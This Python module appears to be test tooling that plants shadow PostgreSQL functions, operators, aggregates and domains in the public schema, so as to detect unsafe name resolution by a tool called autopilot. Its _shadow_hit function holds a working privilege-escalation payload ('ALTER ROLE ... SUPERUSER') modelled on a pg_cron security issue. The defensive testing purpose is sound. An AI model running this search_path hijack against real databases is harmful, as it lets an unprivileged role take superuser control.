"""Shadow objects in ``public``: what a role that can create there plants to run code as whoever
resolves a name through it (the attack of the security issue: pg_cron ran such a function as
``postgres`` and the role became superuser).

``plant(conn, attacker)`` creates, as ``attacker``, in ``public``:

* for every function and aggregate of pg_catalog that PL/pgSQL can declare, one with the same
  arguments; for the variadic ``"any"`` ones (``format``, ``jsonb_build_object``, ``count``, ...),
  typed overloads that outrank them even where pg_catalog comes first;
* for every operator of pg_catalog, one with the same operand types;
* domains named like the built-in types a query names (``text``, ``jsonb``, ``timestamptz``, ...);

then makes ``public`` come before pg_catalog for every new session of the database
(``ALTER DATABASE ... SET search_path``, which its owner may do). Any name that autopilot resolves
through the session's search_path then finds a shadow. Every shadow calls ``public._shadow_hit``:
it counts the hit in a sequence (not undone by a rollback), logs it when it can, tries the
original report's ``ALTER ROLE <attacker> SUPERUSER`` when it runs as a superuser, and raises.
"""

from __future__ import annotations

import psycopg
from psycopg import sql

# built-in types a query can name without a keyword (bigint, integer, boolean, ... are keywords,
# always pg_catalog's)
SHADOW_TYPES = [
    "text", "jsonb", "json", "timestamptz", "timestamp", "date", "regclass", "regproc", "regprocedure",
    "regnamespace", "regtype", "name", "oid", "uuid", "bytea", "xid8", "int2", "int4", "int8", "bool",
    "float8", "numeric", "tsvector", "inet",
]  # fmt: skip

# argument types tried for the variadic "any" functions and aggregates
COMMON_TYPES = [
    "text", "integer", "bigint", "numeric", "boolean", "jsonb", "timestamptz", "interval",
    "double precision", "name", "bytea", "text[]", "bigint[]", "uuid", "date", "oid",
]  # fmt: skip

_EXCLUDED_TYPES = (
    "internal", "cstring", '"any"', "trigger", "event_trigger", "language_handler", "fdw_handler",
    "index_am_handler", "tsm_handler", "table_am_handler", "anyrange", "anymultirange",
    "anycompatiblerange", "anycompatiblemultirange", "pg_ddl_command",
)  # fmt: skip

_SETUP = """
CREATE SEQUENCE public._shadow_hits;
CREATE TABLE public._shadow_log (name text, ran_as text, at timestamptz DEFAULT pg_catalog.clock_timestamp());
GRANT USAGE, SELECT, UPDATE ON SEQUENCE public._shadow_hits TO PUBLIC;
GRANT INSERT, SELECT ON public._shadow_log TO PUBLIC;
CREATE FUNCTION public._shadow_hit(p_name text) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $body$
BEGIN
    BEGIN
        PERFORM pg_catalog.nextval('public._shadow_hits'::pg_catalog.regclass);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        INSERT INTO public._shadow_log (name, ran_as) VALUES (p_name, current_user);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles AS r WHERE r.rolname = current_user) THEN
        BEGIN
            EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', {attacker});
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
    RAISE EXCEPTION 'shadow % ran as %', p_name, current_user USING ERRCODE = 'P0099';
END
$body$;
GRANT EXECUTE ON FUNCTION public._shadow_hit(text) TO PUBLIC;
CREATE FUNCTION public._shadow_sfunc(anyelement, anyelement) RETURNS anyelement
LANGUAGE plpgsql AS $body$ BEGIN PERFORM public._shadow_hit('aggregate'); RETURN $1; END $body$;
CREATE FUNCTION public._shadow_sfunc0(bigint) RETURNS bigint
LANGUAGE plpgsql AS $body$ BEGIN PERFORM public._shadow_hit('aggregate count(*)'); RETURN $1; END $body$;
"""

# Generates the DDL of the shadows from the catalog: one statement per row.
_FUNCTIONS = """
SELECT format(
    'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN '
    'PERFORM public._shadow_hit(%L); %s END $b$',
    p.proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid),
    p.oid::regprocedure::text,
    CASE WHEN p.proretset THEN 'RETURN;' ELSE 'RETURN NULL;' END
)
FROM pg_proc AS p
WHERE p.pronamespace = 'pg_catalog'::regnamespace
  AND p.prokind = 'f'
  AND NOT EXISTS (
      SELECT FROM unnest(coalesce(p.proallargtypes, p.proargtypes::oid[]) || p.prorettype) AS t (oid)
      WHERE t.oid::regtype::text = ANY({excluded})
  )
  -- the function the shadows themselves call to count a hit
  AND p.proname NOT IN ('nextval')
ORDER BY p.oid
"""

_VARIADIC_ANY = """
SELECT DISTINCT p.proname FROM pg_proc AS p
WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
  AND p.provariadic = '"any"'::regtype
"""

_AGGREGATES = """
SELECT format(
    'CREATE AGGREGATE public.%I(%s) (sfunc = public._shadow_sfunc, stype = %s)',
    p.proname, p.proargtypes[0]::regtype, p.proargtypes[0]::regtype
)
FROM pg_proc AS p
WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'a' AND p.pronargs = 1
  AND p.proargtypes[0]::regtype::text <> ALL({excluded})
  AND p.proargtypes[0]::regtype::text NOT IN ('anyarray', 'anycompatiblearray')
ORDER BY p.oid
"""

_OPERATORS = """
SELECT
    format(
        'CREATE FUNCTION public._shadow_op_%s(%s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN '
        'PERFORM public._shadow_hit(%L); RETURN NULL; END $b$',
        o.oid,
        concat_ws(', ', nullif(o.oprleft, 0)::regtype, o.oprright::regtype),
        o.oprresult::regtype,
        format('operator %s(%s, %s)', o.oprname, nullif(o.oprleft, 0)::regtype, o.oprright::regtype)
    ),
    format(
        'CREATE OPERATOR public.%s (%s rightarg = %s, function = public._shadow_op_%s)',
        o.oprname,
        CASE WHEN o.oprleft <> 0 THEN format('leftarg = %s,', o.oprleft::regtype) ELSE '' END,
        o.oprright::regtype, o.oid
    )
FROM pg_operator AS o
WHERE o.oprnamespace = 'pg_catalog'::regnamespace
  AND o.oprright <> 0
  AND o.oprcode <> 0
  AND NOT EXISTS (
      SELECT FROM unnest(ARRAY[o.oprleft, o.oprright, o.oprresult]) AS t (oid)
      WHERE t.oid <> 0 AND t.oid::regtype::text = ANY({excluded})
  )
ORDER BY o.oid
"""


def plant(conn: psycopg.Connection, database: str, attacker: str) -> int:
    """Plants the shadows as ``attacker`` (who owns ``database``) and puts ``public`` first in the
    database's search_path. ``conn``: a superuser connection to ``database``, outside a transaction.
    Returns how many shadows were created."""
    created = 0
    with conn.transaction():
        conn.execute(sql.SQL("SET LOCAL ROLE {}").format(sql.Identifier(attacker)))
        # the DDL is generated and run with only pg_catalog visible, so that the type names it
        # prints are pg_catalog's even once the shadow domains exist
        conn.execute("SET LOCAL search_path = pg_catalog")
        conn.execute(sql.SQL(_SETUP).format(attacker=sql.Literal(attacker)))
        excluded = sql.Literal(list(_EXCLUDED_TYPES))
        statements: list[str] = [
            row[0] for row in conn.execute(sql.SQL(_FUNCTIONS).format(excluded=excluded))
        ]
        for name in [row[0] for row in conn.execute(_VARIADIC_ANY)]:
            statements += _typed_overloads(name)
        statements += [row[0] for row in conn.execute(sql.SQL(_AGGREGATES).format(excluded=excluded))]
        for type_name in COMMON_TYPES:
            statements.append(
                f"CREATE AGGREGATE public.count({type_name}) "
                f"(sfunc = public._shadow_sfunc, stype = {type_name})"
            )
        statements.append("CREATE AGGREGATE public.count(*) (sfunc = public._shadow_sfunc0, stype = bigint)")
        for function, operator in conn.execute(sql.SQL(_OPERATORS).format(excluded=excluded)).fetchall():
            statements += [function, operator]
        for type_name in SHADOW_TYPES:
            statements.append(
                f"CREATE DOMAIN public.{type_name} AS pg_catalog.{type_name} "
                f"CHECK (public._shadow_hit('type {type_name}'))"
            )
        for statement in statements:
            try:
                with conn.transaction():  # a savepoint: a signature that cannot be declared is passed over
                    conn.execute(statement)
                created += 1
            except psycopg.errors.Error:
                pass
        conn.execute(
            sql.SQL("ALTER DATABASE {} SET search_path = public, pg_catalog").format(sql.Identifier(database))
        )
    return created


def _typed_overloads(name: str) -> list[str]:
    """Overloads of a variadic "any" function with concrete types: one and two arguments of every
    common type, and text followed by up to five arguments of one common type."""
    shapes: list[list[str]] = [[t] for t in COMMON_TYPES]
    shapes += [[a, b] for a in COMMON_TYPES for b in COMMON_TYPES]
    shapes += [["text", *([t] * n)] for t in COMMON_TYPES for n in range(2, 6)]
    shapes += [["text", t, "text", u] for t in COMMON_TYPES for u in COMMON_TYPES]
    return [
        f"CREATE FUNCTION public.{name}({', '.join(shape)}) RETURNS text LANGUAGE plpgsql AS $b$ BEGIN "
        f"PERFORM public._shadow_hit('{name}({', '.join(shape)})'); RETURN NULL; END $b$"
        for shape in shapes
    ]


def hits(conn: psycopg.Connection) -> tuple[int, list[tuple[str, str]]]:
    """How many times a shadow ran (from the sequence, which no rollback undoes), and the log of
    those whose transaction committed. ``conn`` must resolve names safely itself."""
    last, called = conn.execute("SELECT last_value, is_called FROM public._shadow_hits").fetchone()
    log = conn.execute("SELECT name, ran_as FROM public._shadow_log ORDER BY at").fetchall()
    return (last if called else 0), log
